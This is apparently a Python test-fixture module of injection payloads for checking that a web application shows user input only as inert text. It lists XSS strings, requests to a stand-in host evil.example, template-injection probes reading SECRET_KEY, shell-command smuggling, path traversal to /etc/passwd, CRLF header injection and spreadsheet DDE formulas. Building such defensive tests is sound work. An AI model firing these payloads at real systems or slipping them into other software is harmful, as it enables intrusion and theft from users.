"""What an attacker, a broken agent or a careless person may write into any field: never more than text.

Markup carries the attribute `pwn`, and scripts set the global `pwned`: a page shows that it held when it has neither.
"""

HTML = [
    "<script pwn>pwned=1</script>",
    "<ScRiPt pwn src=//evil.example/x.js></sCrIpT>",
    "<script pwn\n>pwned=1</script\n>",
    "<<script pwn>pwned=1//<</script>",
    "</title><script pwn>pwned=1</script>",
    "</textarea><script pwn>pwned=1</script>",
    "</script><script pwn>pwned=1</script>",
    "</style><img pwn src=x onerror=pwned=1>",
    "<img pwn src=x onerror=pwned=1>",
    "<img pwn src=//evil.example/pixel.gif>",
    "<img/pwn/src=`x`/onerror=pwned=1>",
    "<body pwn onload=pwned=1>",
    "<input pwn autofocus onfocus=pwned=1>",
    "<details pwn open ontoggle=pwned=1>",
    "<video pwn><source onerror=pwned=1></video>",
    "<a pwn href=javascript:pwned=1>x</a>",
    '<a pwn href="java\tscript:pwned=1">x</a>',
    "<a pwn href=data:text/html,<script>pwned=1</script>>x</a>",
    "<iframe pwn src=javascript:pwned=1></iframe>",
    "<iframe pwn srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object pwn data=data:text/html,x></object>",
    "<embed pwn src=//evil.example/x.swf>",
    "<meta pwn http-equiv=refresh content='0;url=//evil.example/'>",
    "<base pwn href=//evil.example/>",
    "<link pwn rel=stylesheet href=//evil.example/x.css>",
    "<style pwn>*{display:none}@import'//evil.example/x.css'</style>",
    '<p pwn style="background:url(//evil.example/x)">x</p>',
    "<form pwn action=//evil.example/><button>Sign in</button></form>",
    "<button pwn formaction=//evil.example/ form=decision>x</button>",
    "<template pwn><script>pwned=1</script></template>",
    '<noscript pwn><p title="</noscript><img pwn src=x onerror=pwned=1>">',
    "<math pwn><mtext><table><mglyph><style><img pwn src=x onerror=pwned=1>",
    "<!-- <img pwn src=x onerror=pwned=1> -->",
    "--><img pwn src=x onerror=pwned=1><!--",
    "]]><img pwn src=x onerror=pwned=1>",
    "<plaintext pwn>",
]
SVG = [
    "<svg pwn onload=pwned=1>",
    "<svg pwn><script>pwned=1</script></svg>",
    "<svg pwn><animate attributeName=href values=javascript:pwned=1 /></svg>",
    "<svg pwn><use href=//evil.example/x.svg#x></use></svg>",
    "<svg pwn><foreignObject><iframe pwn src=javascript:pwned=1></iframe></foreignObject></svg>",
]
ATTRIBUTES = [
    '" onmouseover="pwned=1" pwn="',
    "' onfocus='pwned=1' autofocus pwn='",
    '"><img pwn src=x onerror=pwned=1>',
    "` onclick=pwned=1 pwn=`",
    "javascript:pwned=1",
    "data:text/html,<script pwn>pwned=1</script>",
    "//evil.example/",
    "&lt;script pwn&gt;pwned=1&lt;/script&gt;",
    "&#60;img pwn src=x onerror=pwned=1&#62;",
    "%3Cscript pwn%3Epwned=1%3C/script%3E",
]
HTMX = [
    "<div pwn hx-get=//evil.example/ hx-trigger=load></div>",
    "<div pwn hx-on:load='pwned=1' hx-trigger=load></div>",
    "<div pwn data-hx-post=/account/logout/ hx-trigger=load></div>",
    "<div pwn hx-vals='js:{x:pwned=1}' hx-get=/ hx-trigger=load></div>",
    '<button pwn data-key="j" data-confirm="x">x</button>',
]
TEMPLATES = [
    "{{ 7|add:7 }}{% debug %}{{ settings.SECRET_KEY }}",
    "{% include 'pwn.html' %}{# pwn #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${pwned=1}#{pwned=1}<%= pwned=1 %>",
    "{{constructor.constructor('pwned=1')()}}",
    "%s %d %(pwn)s {0} {pwn!r} %n",
    "$(touch pwn)`touch pwn`;touch pwn|touch pwn",
]
MARKDOWN = [
    "[x](javascript:pwned=1)",
    "![x](//evil.example/pixel.gif)",
    "[x]: data:text/html,<script pwn>pwned=1</script>\n[x]",
    "```html\n<script pwn>pwned=1</script>\n```",
    "<https://evil.example/> https://evil.example/ www.evil.example",
]
HIDDEN = [
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x1b[2J",
    "\x9b31mred\x9bm",
    "user\u202egnp.exe",
    "a\u2066b\u2067c\u2069 \u061c\u200e\u200f",
    "zero\u200bwidth\u200cjoin\u200d\u2060\ufeff",
    "tags\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
    "bell\x07back\x08form\x0cvertical\x0b\x7f\x85",
    "line\u2028paragraph\u2029",
    "Z" + "\u0335\u0338\u0337\u0322" * 40,
    "pаypаl (Cyrillic) ﬁ ｊａｖａｓｃｒｉｐｔ： ＜ｓｃｒｉｐｔ＞",
    "\u3164\u115f\u1160\uffa0 nothing to see",
]
NAMES = [
    "../../../etc/passwd",
    "..\\..\\pwn.exe",
    'a"; filename="pwn.html',
    "a\r\nSet-Cookie: pwned=1\r\n\r\n<script pwn>pwned=1</script>",
    "CON",
    "-rf *",
    "x" * 100,
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/","x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0\u3000=1+1",
    "\ufeff\u200b\u202e=1+1",
    '"=1+1',
    "'\" =1+1",
    "\u201c\u2018=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    " \ufe661+1",
    "\u22121+cmd|' /C calc'!A0",
    'x","=1+1',
    '=1+1","=2+2\r\n=3+3',
    "-1e3cmd",
]
PAYLOADS = [*HTML, *SVG, *ATTRIBUTES, *HTMX, *TEMPLATES, *MARKDOWN, *HIDDEN, *NAMES, *FORMULAS]
MIXED = "\"'><img pwn src=x onerror=pwned=1>{{ 7 }}\u202e\u200b\x1b[31m\x85"
"""Some of everything, for fields of one line."""
HUGE = "<b pwn>" + "A" * 1_000_000
"""One line of a megabyte."""
DEEP: object = "<b pwn>deep</b>"
for _ in range(60):
    DEEP = {"<b pwn>": [DEEP]}


def one_line(text: str) -> str:
    """The payload as a field of one line takes it."""
    return " ".join(text.split())
